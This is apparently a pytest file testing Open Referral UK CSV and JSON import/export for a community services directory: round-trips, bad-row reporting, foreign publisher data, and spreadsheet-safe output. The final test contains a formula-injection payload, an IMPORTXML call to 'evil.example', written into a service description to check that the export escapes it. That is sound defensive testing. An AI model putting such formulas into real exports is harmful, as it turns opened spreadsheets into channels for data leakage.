"""Open Referral UK import/export: lossless round-trips, bad rows reported, data from other publishers."""

from __future__ import annotations

import csv
import json
import uuid
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import delete
from sqlmodel import select

from core.db import session_scope
from directory.models import Location, Organisation, Service, ServiceAtLocation, ServiceTaxonomy, Taxonomy
from directory.oruk import import_oruk
from directory.oruk.csv_tables import export_oruk_csv
from directory.oruk.documents import service_documents
from directory.oruk.ids import NAMESPACE
from directory.oruk.json_file import export_oruk_json
from directory.seed import ensure_taxonomy, load_directory_csv
from directory.vocabulary import Capacity, Cost, ReferralRoute
from tests.test_seed import directory_rows, seed_sample


def add_unusual_services(session) -> None:  # type: ignore[no-untyped-def]
    """Services using the fields and shapes the seed file does not: coordinates, parents, several places."""
    ensure_taxonomy(session)
    session.add(Taxonomy(id="lunch_clubs", name="Lunch clubs", vocabulary="local", parent_id="loneliness"))
    session.add(Organisation(id="org-full", name="Full Details Trust", description="A charity with every field.",
                             url="https://full.example.org", email="hello@full.example.org", phone="01632 960500"))
    session.flush()
    session.add(Location(id="loc-coords", organisation_id="org-full", name="Hall", address="1 High St, Annex",
                         town="Holt", postcode="NR25 6AA", latitude=52.9031, longitude=1.0917))
    session.add(Location(id="loc-bare", name="Online only"))
    session.flush()
    session.add(Service(
        id="every-field", organisation_id="org-full", name="Every field", description="Line one.\nLine two.",
        url="https://full.example.org/every", email="svc@full.example.org", phone="01632 960501",
        tags=["lunch", "company"], min_age=0, max_age=17, eligibility="Children", areas=["NR25", "national"],
        referral_route=ReferralRoute.PROFESSIONAL, access_methods=["phone", "email", "web", "home-visit"],
        opening_hours="Fri 22:00-02:00; Sat,Sun 10:00-12:00", cost=Cost.PAID, cost_detail="£5",
        languages=["English", "BSL"], accessibility="Ramp", accompany_allowed=False,
        capacity_status=Capacity.WAITING_LIST, waiting_weeks=0, last_verified=date(2024, 2, 29), active=False,
    ))
    session.add(Service(
        id="bare", organisation_id="org-full", name="Bare minimum", access_methods=[], tags=[], areas=[],
        languages=[], opening_hours="24/7", capacity_status=Capacity.CLOSED,
    ))
    session.flush()
    session.add_all([
        ServiceTaxonomy(service_id="every-field", taxonomy_id="lunch_clubs"),
        ServiceTaxonomy(service_id="every-field", taxonomy_id="loneliness"),
        ServiceAtLocation(service_id="every-field", location_id="loc-coords"),
        ServiceAtLocation(service_id="every-field", location_id="loc-bare"),
    ])


def empty_directory(session) -> None:  # type: ignore[no-untyped-def]
    for table in (ServiceAtLocation, ServiceTaxonomy, Service, Location, Organisation, Taxonomy):
        session.execute(delete(table))


@pytest.fixture
def directory(engine, tmp_path: Path):  # type: ignore[no-untyped-def]
    """A sample of the seed plus unusual services, as whole-directory rows."""
    with session_scope(engine) as session:
        load_directory_csv(session, seed_sample(tmp_path / "sample.csv"))
        add_unusual_services(session)
    with session_scope(engine) as session:
        return directory_rows(session)


@pytest.mark.parametrize("export", [export_oruk_csv, export_oruk_json], ids=["csv", "json"])
def test_export_then_import_into_an_empty_directory_keeps_every_field(engine, directory, tmp_path: Path,
                                                                      export) -> None:  # type: ignore[no-untyped-def]
    target = tmp_path / ("oruk" if export is export_oruk_csv else "oruk.json")
    with session_scope(engine) as session:
        written = export(session, target)
        empty_directory(session)
    with session_scope(engine) as session:
        report = import_oruk(session, target)
    assert report.errors == []
    assert report.loaded == written == len(directory["Service"])
    with session_scope(engine) as session:
        assert directory_rows(session) == directory


def _document(documents: list[dict], our_id: str) -> dict:
    return next(doc for doc in documents if doc.get("x_signpost_id", doc["id"]) == our_id)


def _place(document: dict, our_id: str) -> dict:
    return next(link["location"] for link in document["service_at_locations"]
                if link["location"].get("x_signpost_id") == our_id)


def test_exported_json_is_oruk_3_shaped(engine) -> None:  # type: ignore[no-untyped-def]
    with session_scope(engine) as session:
        add_unusual_services(session)
        document = _document(service_documents(session), "every-field")
    assert document["id"] == str(uuid.uuid5(NAMESPACE, "service:every-field"))
    assert document["organization"]["name"] == "Full Details Trust"
    assert document["organization"]["phones"][0]["number"] == "01632 960500"
    assert document["status"] == "inactive"
    assert document["assured_date"] == "2024-02-29"
    assert (document["minimum_age"], document["maximum_age"]) == (0, 17)
    assert document["contacts"][0]["phones"][0]["number"] == "01632 960501"
    terms = {link["taxonomy_term"].get("x_signpost_id") for link in document["attributes"]}
    assert terms == {"lunch_clubs", "loneliness"}
    address = _place(document, "loc-coords")["addresses"][0]
    assert (address["city"], address["postal_code"], address["country"]) == ("Holt", "NR25 6AA", "GB")
    assert _place(document, "loc-bare")["location_type"] == "physical" and "addresses" not in _place(
        document, "loc-bare")
    schedules = {(s["freq"], s["byday"], s["opens_at"], s["closes_at"]) for s in document["schedules"]}
    assert ("WEEKLY", "FR", "22:00", "23:59") in schedules and ("WEEKLY", "SA,SU", "10:00", "12:00") in schedules
    assert document["cost_options"][0] == {"id": document["cost_options"][0]["id"], "service_id": document["id"],
                                           "option": "Paid", "amount": 5, "amount_description": "£5"}
    assert {"url", "email"} <= set(document) and "" not in document.values() and None not in document.values()


def _rewrite(path: Path, change) -> None:  # type: ignore[no-untyped-def]
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    header = list(rows[0])
    change(rows)
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)


def test_bad_csv_rows_name_file_and_row_and_the_rest_still_loads(engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        load_directory_csv(session, seed_sample(tmp_path / "sample.csv"))
        export_oruk_csv(session, tmp_path)
        empty_directory(session)
    service_rows = list(csv.DictReader((tmp_path / "services.csv").open()))
    service_ids = [row["id"] for row in service_rows]
    our_ids = {row["id"]: row["x_signpost_id"] for row in service_rows}

    def break_services(rows: list[dict]) -> None:
        rows[0]["status"] = "maybe"  # spreadsheet row 2
        rows[1]["name"] = ""  # row 3

    def break_schedule(rows: list[dict]) -> None:
        rows[4]["opens_at"] = "adult"  # row 6

    _rewrite(tmp_path / "services.csv", break_services)
    _rewrite(tmp_path / "schedule.csv", break_schedule)
    _rewrite(tmp_path / "phones.csv", lambda rows: rows.append({"id": "extra", "contact_id": "nobody"}))
    phone_rows = len(list(csv.DictReader((tmp_path / "phones.csv").open())))
    schedule_service = list(csv.DictReader((tmp_path / "schedule.csv").open()))[4]["service_id"]

    with session_scope(engine) as session:
        report = import_oruk(session, tmp_path)
    reasons = {(error.reason.split(":")[0], error.row): error.reason for error in report.errors}
    assert set(reasons) == {("services.csv", 2), ("services.csv", 3), ("schedule.csv", 6),
                            ("phones.csv", phone_rows + 1)}
    assert "maybe" in reasons[("services.csv", 2)]
    assert "name" in reasons[("services.csv", 3)]
    assert "adult" in reasons[("schedule.csv", 6)] and "was not loaded" in reasons[("schedule.csv", 6)]
    assert "nobody" in reasons[("phones.csv", phone_rows + 1)]
    with session_scope(engine) as session:
        loaded = {service.id for service in session.exec(select(Service)).all()}
    assert loaded == {our_ids[sid] for sid in set(service_ids) - {service_ids[0], service_ids[1], schedule_service}}
    assert report.loaded == len(loaded)


def test_a_bad_json_service_writes_nothing_not_even_its_organisation(engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        add_unusual_services(session)
        documents = service_documents(session)
        empty_directory(session)
    broken = json.loads(json.dumps(documents[1]))
    broken["id"], broken["x_signpost_id"] = str(uuid.uuid4()), "broken"
    broken["organization"] = {**broken["organization"], "id": str(uuid.uuid4()), "x_signpost_id": "org-only-in-broken",
                              "name": "Half Written"}
    _place(broken, "loc-coords")["addresses"][0]["postal_code"] = "not a postcode"
    source = tmp_path / "services.json"
    source.write_text(json.dumps([documents[0], broken, {"id": "no-name", "organization": documents[0]["organization"]},
                                  documents[1]]))
    with session_scope(engine) as session:
        report = import_oruk(session, source)
        assert session.get(Organisation, "org-only-in-broken") is None
        assert {service.id for service in session.exec(select(Service)).all()} == {"bare", "every-field"}
    assert report.loaded == 2
    assert [error.row for error in report.errors] == [2, 3]
    assert "not a postcode" in report.errors[0].reason
    assert "service_at_locations[1].location.addresses[0]" in report.errors[0].reason
    assert "name" in report.errors[1].reason


def test_data_from_other_publishers_imports_with_sensible_defaults(engine, tmp_path: Path) -> None:
    foreign = {
        "content": [{
            "id": "3fa85f64-5717-4562-b3fc-2c963f66afa6",
            "name": "Tea and Chat",
            "description": "Weekly social group.",
            "status": "temporarily closed",
            "assured_date": "2025-06-01T10:00:00Z",
            "organization": {"id": "0c1d", "name": "Parish Council", "description": ""},
            "contacts": [{"id": "c1", "phones": [{"id": "p1", "number": "01632 960777"}]}],
            "cost_options": [{"id": "co1", "option": "Per session", "amount": 0}],
            "eligibilitys": [{"id": "e1", "eligibility": "adult", "minimum_age": 18}],
            "languages": [{"id": "l1", "language": "en"}],
            "service_areas": [{"id": "a1", "service_area": "north norfolk"}],
            "regular_schedules": [
                {"id": "r1", "opens_at": "10:00:00", "closes_at": "12:00:00", "byday": "TU,TH", "freq": "WEEKLY"},
                {"id": "r2", "opens_at": "14:00", "closes_at": "16:00", "byday": "1MO", "freq": "MONTHLY"},
            ],
            "service_taxonomys": [{"id": "t1", "taxonomy": {"id": "loneliness", "name": "Loneliness"}}],
        }],
    }
    source = tmp_path / "page.json"
    source.write_text(json.dumps(foreign))
    with session_scope(engine) as session:
        report = import_oruk(session, source)
        service = session.get(Service, "3fa85f64-5717-4562-b3fc-2c963f66afa6")
    assert (report.loaded, report.errors) == (1, [])
    assert service.opening_hours == "Tue,Thu 10:00-12:00; 1st Mon 14:00-16:00"  # monthly schedules are kept now
    assert service.capacity_status == Capacity.CLOSED and service.active is True
    assert service.cost == Cost.FREE and service.referral_route == ReferralRoute.EITHER
    assert service.access_methods == ["phone"] and service.phone == "01632 960777"
    assert service.areas == ["North Norfolk"] and service.min_age == 18
    assert service.last_verified == date(2025, 6, 1)


def test_oruk_csv_export_is_safe_to_open_in_a_spreadsheet(engine, tmp_path: Path) -> None:
    with session_scope(engine) as session:
        add_unusual_services(session)
        session.get(Service, "bare").description = "=IMPORTXML(\"http://evil.example\",\"//a\")"
        export_oruk_csv(session, tmp_path)
        empty_directory(session)
    row = next(row for row in csv.DictReader((tmp_path / "services.csv").open()) if row["x_signpost_id"] == "bare")
    assert row["description"].startswith("'=")
    with session_scope(engine) as session:
        import_oruk(session, tmp_path)
        assert session.get(Service, "bare").description.startswith("=IMPORTXML")
